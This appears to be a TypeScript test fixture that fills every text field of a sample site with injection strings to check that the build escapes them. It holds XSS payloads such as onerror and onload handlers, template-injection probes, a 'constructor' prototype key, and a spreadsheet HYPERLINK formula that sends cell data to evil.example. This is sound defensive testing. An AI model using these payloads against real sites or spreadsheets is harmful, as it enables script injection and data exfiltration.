import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { digestOf } from '../../src/datasets/index.ts';
import { copyFixture } from '../sites.ts';

/** What would run, or end the text that it stands in, wherever a place forgets to write it as text. */
const attacks = [
  '<script>hit()</script>',
  '"\'><img src=x onerror=hit()>',
  '</title></style></script><svg onload=hit()>',
  ']]>--><!--',
  '&lt;b&gt; &#60;',
  `{{hit()}} ${'$'}{hit()} \\" \\u003cscript> %3Cscript%3E`,
].join(' ');

/** A text that is like no other, for one field. */
export const hostile = (field: string): string => `${field} ${attacks}`;

/** What a spreadsheet would run; the values of a category. */
export const formula = '=HYPERLINK("http://evil.example/"&A1,"x") <img src=x onerror=hit()>';
/** A name that every object of a program has something for. */
export const inherited = 'constructor';

type Tree = Record<string, unknown>;

/** A site with a hostile text in every field that takes words; it can be built as it is. */
export async function writeHostileSite(): Promise<string> {
  const folder = await copyFixture();
  const change = async (
    path: string,
    to: (tree: never) => void,
    read: (text: string) => unknown = parse,
    write = stringify as (tree: unknown) => string,
  ) => {
    const text = await readFile(join(folder, path), 'utf8');
    const tree = read(text) as never;
    to(tree);
    await writeFile(join(folder, path), write(tree));
  };
  const json = (tree: unknown) => `${JSON.stringify(tree, null, 2)}\n`;

  await change('content/site/en.yaml', (words: Tree) => {
    words['name'] = hostile('site-name');
    words['tagline'] = hostile('tagline');
    words['publisher'] = { name: hostile('publisher') };
    words['topics'] = { money: hostile('topic') };
    words['places'] = { LAO: hostile('place') };
  });
  await change('content/briefs/everything/brief.yaml', (facts: Tree) => {
    facts['authors'] = [hostile('author')];
    facts['number'] = hostile('number');
    for (const reference of facts['references'] as Tree[])
      for (const key of ['title', 'author', 'publisher']) reference[key] = hostile(`reference-${key}`);
  });
  await change('content/glossary/en.yaml', (words: Record<string, Tree>) => {
    for (const [id, entry] of Object.entries(words)) {
      entry['term'] = hostile(`term-${id}`);
      entry['definition'] = hostile(`definition-${id}`);
      entry['also'] = [hostile(`also-${id}`)];
    }
  });
  for (const id of ['bars', 'lines'])
    await change(`content/charts/${id}/en.yaml`, (words: Tree) => {
      for (const key of ['title', 'subtitle', 'description']) words[key] = hostile(`chart-${key}`);
    });
  await change('content/datasets/people/en.yaml', (words: Tree) => {
    for (const key of ['title', 'description', 'publisher']) words[key] = hostile(`data-${key}`);
    const fields = words['fields'] as Record<string, Tree>;
    for (const [name, field] of Object.entries(fields)) field['title'] = hostile(`field-${name}`);
    (fields['value'] ?? {})['definition'] = hostile('field-definition');
    (fields['group'] ?? {})['values'] = {
      young: hostile('category'),
      [formula]: hostile('formula'),
      [inherited]: hostile('inherited'),
    };
  });
  const spec = join(folder, 'content/charts/joined/chart.vl.json');
  await writeFile(spec, (await readFile(spec, 'utf8')).replace("'old'", "'young'"));
  const release = 'data/people/1.0.0.json';
  await change(
    release,
    (file: Tree & { schema: { fields: Tree[] }; data: Tree[] }) => {
      for (const key of ['title', 'description', 'changes', 'licenseNote'])
        file[key] = hostile(`release-${key}`);
      file['sources'] = [
        {
          title: hostile('source-title'),
          version: hostile('source-version'),
          path: 'https://example.org/?a="><b>',
        },
      ];
      for (const field of file.schema.fields)
        if (field['categories']) field['categories'] = ['young', formula, inherited];
      file.data.forEach((row, n) => {
        row['group'] = row['group'] === 'young' ? 'young' : n % 4 < 2 ? inherited : formula;
      });
    },
    JSON.parse,
    json,
  );
  await change(
    'data/releases.json',
    (digests: Record<string, Tree>) => {
      (digests['people'] ?? {})['1.0.0'] = '';
    },
    JSON.parse,
    json,
  );
  const digest = digestOf(await readFile(join(folder, release), 'utf8'));
  await change(
    'data/releases.json',
    (digests: Record<string, Tree>) => ((digests['people'] ?? {})['1.0.0'] = digest),
    JSON.parse,
    json,
  );
  for (const language of ['lo', 'ar']) {
    const path = join(folder, `content/briefs/everything/${language}.mdx`);
    await writeFile(path, (await readFile(path, 'utf8')).replace(/<Stat data="people"[^>]*\/>/, '5'));
  }
  const text = join(folder, 'content/briefs/everything/en.mdx');
  const before = await readFile(text, 'utf8');
  await writeFile(
    text,
    before
      .replace(/^title: .*$/m, `title: ${JSON.stringify(hostile('title'))}`)
      .replace(/^summary: .*$/m, `summary: ${JSON.stringify(hostile('summary'))}`)
      .replace(/ There were <Stat[^>]*\/> people\./, ' There were people.')
      .replace('## Numbers & signs', `## ${inMarkdown('heading')}`)
      .replace('[^note]: All of them are imagined.', `[^note]: ${inMarkdown('footnote')}`)
      .replace('title="Take care"', "title='callout \"><img src=x onerror=hit()>'")
      .replace('caption="Shares of two places"', "caption='caption \"><img src=x onerror=hit()>'")
      .replace('![A black dot]', '![dot "\\>\\<img src=x onerror=hit()\\>]'),
  );
  return folder;
}

/** A hostile text as Markdown writes it. */
const inMarkdown = (field: string): string => hostile(field).replace(/[\\<>{}*_[\]&!$"`]/g, '\\$&');
